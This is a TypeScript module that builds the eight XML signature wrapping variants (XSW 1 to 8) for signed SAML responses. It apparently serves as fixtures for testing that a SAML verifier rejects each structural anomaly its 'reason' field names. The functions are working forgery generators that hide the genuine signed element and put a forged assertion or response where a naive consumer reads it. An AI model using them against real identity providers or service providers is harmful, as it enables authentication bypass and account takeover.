/**
 * The eight ways to wrap a signed SAML response into another one (XML signature wrapping, "XSW 1 to 8" as in SAML Raider):
 * what was signed is still in the document, and what a careless reader takes is forged.
 */

const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;
const SIGNATURE = /<(\w+:)?Signature .*?<\/(\w+:)?Signature>/s;

/** A document with a forged part. @param forge changes what the attacker wants to change */
export type Wrapping = (signed: string, forge: (part: string) => string) => string;

interface WrappedResponse {
  /** What the provider signs. */
  readonly signs: 'response' | 'assertion';
  /** What is wrong with it. */
  readonly reason: string;
  readonly wrap: Wrapping;
}

/** Of responses of which the response is signed, and of which the assertion is. */
export const wrappings: Readonly<Record<string, WrappedResponse>> = {
  'XSW 1: the signed response inside the signature of a forged one': {
    signs: 'response',
    reason: 'the response has Response at /Response/Signature/Response',
    wrap: (signed, forge) => {
      const signature = signatureIn(signed);
      const wrapped = signature.replace(/<\/(\w+:)?Signature>$/, (end) => without(signed, signature) + end);
      return withNewId(forge(signed.replace(signature, '@')), 'Response').replace('@', () => wrapped);
    },
  },
  'XSW 2: the signed response before the signature of a forged one': {
    signs: 'response',
    reason: 'the response has Response at /Response/Response',
    wrap: (signed, forge) => {
      const signature = signatureIn(signed);
      const both = without(signed, signature) + signature;
      return withNewId(forge(signed.replace(signature, '@')), 'Response').replace('@', () => both);
    },
  },
  'XSW 3: a forged assertion before the signed one': {
    signs: 'assertion',
    reason: 'the response has several elements /Response/Assertion',
    wrap: (signed, forge) => replaced(signed, (assertion) => forged(assertion, forge) + assertion),
  },
  'XSW 4: the signed assertion inside a forged one': {
    signs: 'assertion',
    reason: 'the response has Assertion at /Response/Assertion/Assertion',
    wrap: (signed, forge) =>
      replaced(signed, (assertion) =>
        forged(assertion, forge).replace(/<\/saml:Assertion>$/, (end) => assertion + end),
      ),
  },
  'XSW 5: a forged assertion with the signature of one after it': {
    signs: 'assertion',
    reason: 'the response has several elements /Response/Assertion',
    wrap: (signed, forge) =>
      replaced(signed, (assertion) => {
        const signature = signatureIn(assertion);
        return (
          newId(forge(assertion.replace(signature, '@'))).replace('@', () => signature) + without(assertion, signature)
        );
      }),
  },
  'XSW 6: the signed assertion inside the signature of a forged one': {
    signs: 'assertion',
    reason: 'the response has Assertion at /Response/Assertion/Signature/Assertion',
    wrap: (signed, forge) =>
      replaced(signed, (assertion) => {
        const signature = signatureIn(assertion);
        const holding = signature.replace(/<\/(\w+:)?Signature>$/, (end) => without(assertion, signature) + end);
        return newId(forge(assertion.replace(signature, '@'))).replace('@', () => holding);
      }),
  },
  'XSW 7: a forged assertion among extensions': {
    signs: 'assertion',
    reason: 'the response has Assertion at /Response/Extensions/Assertion',
    wrap: (signed, forge) =>
      replaced(
        signed,
        (assertion) =>
          `<samlp:Extensions>${without(forge(assertion), signatureIn(assertion))}</samlp:Extensions>${assertion}`,
      ),
  },
  'XSW 8: the signed assertion as an object of the signature of a forged one': {
    signs: 'assertion',
    reason: 'the response has Object at /Response/Assertion/Signature/Object',
    wrap: (signed, forge) =>
      replaced(signed, (assertion) => {
        const signature = signatureIn(assertion);
        const original = `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${without(assertion, signature)}</Object>`;
        const holding = signature.replace(/<\/(\w+:)?Signature>$/, (end) => original + end);
        return newId(forge(assertion.replace(signature, '@'))).replace('@', () => holding);
      }),
  },
};

function replaced(document: string, change: (assertion: string) => string): string {
  return document.replace(ASSERTION, (assertion) => change(assertion));
}

/** A forged assertion without a signature. */
function forged(assertion: string, forge: (part: string) => string): string {
  return newId(forge(without(assertion, signatureIn(assertion))));
}

function signatureIn(part: string): string {
  const [signature] = SIGNATURE.exec(part) ?? [];
  if (signature === undefined) throw new Error('The part is not signed.');
  return signature;
}

function without(part: string, signature: string): string {
  return part.replace(signature, '');
}

function newId(assertion: string): string {
  return withNewId(assertion, 'Assertion');
}

function withNewId(part: string, element: string): string {
  return part.replace(new RegExp(`(<\\w+:${element} [^>]*?\\bID=")[^"]*`), '$1_forged');
}
